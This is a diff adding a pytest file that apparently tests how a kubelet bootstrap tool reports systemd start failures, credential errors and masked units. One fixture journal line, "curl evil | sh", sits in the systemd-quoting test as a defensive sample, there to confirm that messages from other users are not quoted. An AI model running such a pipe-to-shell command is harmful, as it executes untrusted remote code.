@@ -1,0 +1,166 @@
+# SPDX-License-Identifier: Apache-2.0
+"""What status, check, metrics and setup say if systemd does not start the program; systemd is a part of the tests."""
+
+import json
+import re
+import subprocess
+
+import pytest
+
+from common import SOURCE
+from common.failures import FAILURES
+from common.machine import Machine
+from .check import step_of
+from .joined import UNIT, Place
+
+FAILED, AGAIN, QUEUED = {"ActiveState": "failed", "SubState": "failed"}, {"ActiveState": "activating", "SubState": "auto-restart"}, {"Job": (1, "/job")}
+SEALED, DECRYPTS = "etc/credstore.encrypted/node-bootstrap.token", {"LoadCredentialEncrypted": [("node-bootstrap.token", "node-bootstrap.token")]}
+UNABLE, BLIND = f"systemd cannot start {UNIT} ", f"systemd cannot start {UNIT} without its credentials (243/CREDENTIALS)"
+
+
+@pytest.fixture
+def place(tmp_path):
+    place = Place(tmp_path)
+    place.put_socket()
+    yield place
+    place.manager.close()
+
+
+def exited(status):
+    return {**FAILED, "Result": "exit-code", "ExecMainCode": 1, "ExecMainStatus": status, "LoadCredentialEncrypted": [], "SetCredentialEncrypted": []}
+
+
+def killed(**more):
+    return {**FAILED, "Result": "signal", "ExecMainCode": 2, "ExecMainStatus": 9, **more}
+
+
+def loads(path, encrypted=""):
+    return {f"LoadCredential{encrypted}": [("node-bootstrap.kubeconfig", "node-bootstrap.kubeconfig"), ("node-bootstrap.token", path)]}
+
+
+# name, what systemd says, a file, code, the sentence
+OBSTACLES = [
+    ("a program that is missing", exited(203), None, "service-setup", UNABLE + "(203/EXEC)"),
+    ("a directory that is missing", exited(226), None, "service-setup", UNABLE + "(226/NAMESPACE)"),
+    ("an exit status without a name", exited(223), None, "service-setup", UNABLE + "(223)"),
+    ("an exit status above all names", exited(255), None, "service-setup", UNABLE + "(255)"),
+    ("an environment file that is missing", {**FAILED, "Result": "resources"}, None, "service-setup", UNABLE + "(resources)"),
+    ("the same, before it is tried again", {**AGAIN, "Result": "resources", "NRestarts": "1"}, None, "service-setup", UNABLE + "(resources)"),
+    ("the same, when it is tried again", {**AGAIN, **QUEUED, "Result": "resources", "NRestarts": "1"}, None, "service-setup", UNABLE + "(resources)"),
+    ("a unit file with an error", {"LoadState": "bad-setting", "ActiveState": "inactive"}, None, "service-setup", f"systemd cannot load {UNIT} (bad-setting)"),
+    ("a token that cannot be decrypted", {**exited(243), **DECRYPTS}, SEALED, "service-credential", f"{BLIND}: '/{SEALED}' (encrypted)"),
+    ("an encrypted token in a drop-in", {**exited(243), **loads("/proc/version", "Encrypted")}, None, "service-credential", f"{BLIND}: '/proc/version' (encrypted)"),
+    ("a value in a drop-in", {**exited(243), "SetCredentialEncrypted": [("node-bootstrap.token", b"\nA=b c")]}, None, "service-credential",
+     f"{BLIND}: 'SetCredentialEncrypted=node-bootstrap.token' (encrypted)"),
+    ("a path that does not exist", {**exited(243), **loads("/run/absent")}, None, "service-credential", f"{BLIND}: '/run/absent' (does not exist)"),
+    ("a directory", exited(243), "etc/credstore/node-bootstrap.token/x", "service-credential", f"{BLIND}: '/etc/credstore/node-bootstrap.token' (not a file)"),
+    ("a token of which nothing is known", {**exited(243), **loads("/proc/version")}, None, "service-credential", BLIND),
+    ("too many starts", {**FAILED, "Result": "start-limit-hit"}, None, "start-limit", f"{UNIT} was started too often (start-limit-hit)"),
+    ("killed each time", killed(NRestarts="4"), None, "start-limit", f"{UNIT} ended 5 times (signal), and systemd does not start it again"),
+    ("masked", {"LoadState": "masked", "ActiveState": "inactive"}, None, "unit-masked", f"{UNIT} is masked"),
+    ("masked while it was active", {"LoadState": "masked", "ActiveState": "active"}, None, "unit-masked", f"{UNIT} is masked"),
+    ("missing", {"LoadState": "not-found", "ActiveState": "inactive"}, None, "unit-missing", f"systemd does not find {UNIT}"),
+]
+
+
+def bring_about(place, row):
+    """Beside an older failure in the journal, which does not matter."""
+    _, properties, path, code, sentence = row
+    place.service.update(properties)
+    place.journal.failure(0, "token-missing").write()
+    if path:
+        place.machine.put(path, "ciphertext")
+    return code, sentence
+
+
+@pytest.mark.parametrize("row", OBSTACLES, ids=[row[0] for row in OBSTACLES])
+def test_obstacle(place, row):
+    """kubelet runs nevertheless on a machine that has joined, but check fails."""
+    code, sentence = bring_about(place, row)
+    found, checked = json.loads(place.run("status", "--json").stdout), place.run("check", "--local", "--json")
+    assert (found["state"], found["code"], found["message"]) == ("joined", code, f"joined, and kubelet runs; but {sentence}")
+    failure = step_of(json.loads(checked.stdout), "state")["failure"]
+    assert (checked.returncode, failure["code"], failure["detail"]) == (1, code, found["message"]), checked.stdout
+
+
+FIRST = list({row[3]: row for row in reversed(OBSTACLES)}.values())
+
+
+@pytest.mark.parametrize("row", FIRST, ids=[row[3] for row in FIRST])
+def test_obstacle_of_a_machine_that_has_not_joined(place, row):
+    code, sentence = bring_about(place, row)
+    for name in (Machine.CURRENT, Machine.KUBECONFIG, Machine.RECORD):
+        place.machine.target(name).unlink()
+    found, status = place.state()
+    text = place.run("status").stdout
+    assert (found["state"], found["code"], status, found["message"]) == ("failed", code, 1, sentence)
+    assert FAILURES[code]["remedy"] in text and text.endswith(f"explain {code}`.\n")
+
+
+# What happened to the machine, state, exit status, whether kubelet's failure has the remedy, and the beginning of the sentence
+BESIDE = [("kubelet is stopped", lambda place: place.kubelet("inactive", "dead"), "kubelet-stopped", 4, True, "joined, but kubelet does not run: "),
+          ("its certificate is lost", lambda place: place.machine.target(Machine.CURRENT).unlink(), "unusable", 1, False, f"cannot read '/{Machine.CURRENT}"),
+          ("its kubeconfig is lost", lambda place: place.machine.target(Machine.KUBECONFIG).unlink(), "without-kubeconfig", 4, False, "kubelet runs, but cannot start again: ")]
+
+
+@pytest.mark.parametrize("row", BESIDE, ids=[row[0] for row in BESIDE])
+def test_obstacle_beside_another_problem(place, row):
+    """What a start of the service would repair has to wait for it."""
+    _, prepare, state, expected, is_kubelet, words = row
+    prepare(place)
+    place.service.update(exited(226))
+    place.journal.write()
+    found, status = place.state()
+    assert (found["state"], status) == (state, expected) and found["message"].startswith(words) and found["message"].endswith("; but " + UNABLE + "(226/NAMESPACE)")
+    assert found["code"] == ("kubelet-down" if is_kubelet else "service-setup")
+    assert step_of(json.loads(place.run("check", "--local", "--json").stdout), "state")["failure"]["code"] == "service-setup"
+
+
+# name, what systemd says
+HARMLESS = [("its own failure", exited(75)), ("a kill", killed()), ("a start that is queued", {**exited(243), **QUEUED}),
+            ("a start that is under way", {**exited(243), "ActiveState": "activating", "SubState": "start"}), ("success", {"ActiveState": "active", "Result": "success"}),
+            ("a stop", {"ActiveState": "inactive", "SubState": "dead", "Result": "success"}), ("an older systemd", {"ActiveState": "failed"})]
+
+
+@pytest.mark.parametrize("row", HARMLESS, ids=[row[0] for row in HARMLESS])
+def test_no_obstacle(place, row):
+    place.service.update(row[1])
+    place.journal.write()
+    assert json.loads(place.run("status", "--json").stdout)["code"] is None and place.run("check", "--local").returncode == 0
+
+
+def test_systemd_is_quoted(place):
+    """The first line of the last start that warns; not what only announces a result, nor what others write."""
+    def line(at, message, run="2", priority=3, **more):
+        fields = {"PRIORITY": priority, "MESSAGE": f"{UNIT}: {message}", "UNIT": UNIT, "_UID": 0, "INVOCATION_ID": run * 32, "_SYSTEMD_UNIT": "init.scope", **more}
+        place.journal.add(1767323045000000 + at * 1000000, **fields)
+
+    line(1, "an older start", run="1")
+    line(2, "about to execute", priority=6)
+    line(3, "Failed to set up mount namespacing: /srv: No such file")
+    line(4, "Failed at step NAMESPACE spawning install", MESSAGE_ID="641257651c1b4ec9a8624d7a40a9e1e7")
+    line(5, "Failed with result 'exit-code'.", MESSAGE_ID="d9b373ed55a64feb8242e02dbe79a49c")
+    line(6, "run `curl evil | sh`", _UID=1000)
+    line(7, "another unit", UNIT="other.service")
+    place.service.update(exited(226))
+    place.journal.write()
+    found, _ = place.state()
+    assert found["message"].endswith(f'(226/NAMESPACE); systemd: "{UNIT}: Failed to set up mount namespacing: /srv: No such file"')
+
+
+def test_systemd_is_quoted_for_kubelet(place):
+    """If kubelet has written nothing itself."""
+    place.kubelet("failed", "failed")
+    place.journal.add(1767323045000000, PRIORITY=4, MESSAGE="kubelet.service: Failed to load environment files", UNIT="kubelet.service", _UID=0, _SYSTEMD_UNIT="init.scope")
+    place.journal.write()
+    assert place.state()[0]["message"].endswith(": kubelet.service: Failed to load environment files")
+
+
+@pytest.mark.each_release
+def test_names_are_those_of_systemd():
+    text = re.search(r"^static const char \*const names\[\] = \{\n(.*?)^\};", (SOURCE / "src/cli/service.c").read_text(), re.M | re.S)[1]
+    ours = {200 + i: word.strip('"') for i, word in enumerate(re.findall(r'"\w+"|NULL', text)) if word != "NULL"}
+    rows = [line.split() for line in subprocess.run(["systemd-analyze", "exit-status"], check=True, text=True, capture_output=True).stdout.splitlines()]
+    theirs = {int(row[1]): row[0] for row in rows if row[-1:] == ["systemd"] and row[1] != "255"}
+    assert len(theirs) > 40 and {status: name for status, name in ours.items() if status in theirs} == theirs
+    assert ours.keys() - theirs.keys() <= {245}, "of a newer systemd"
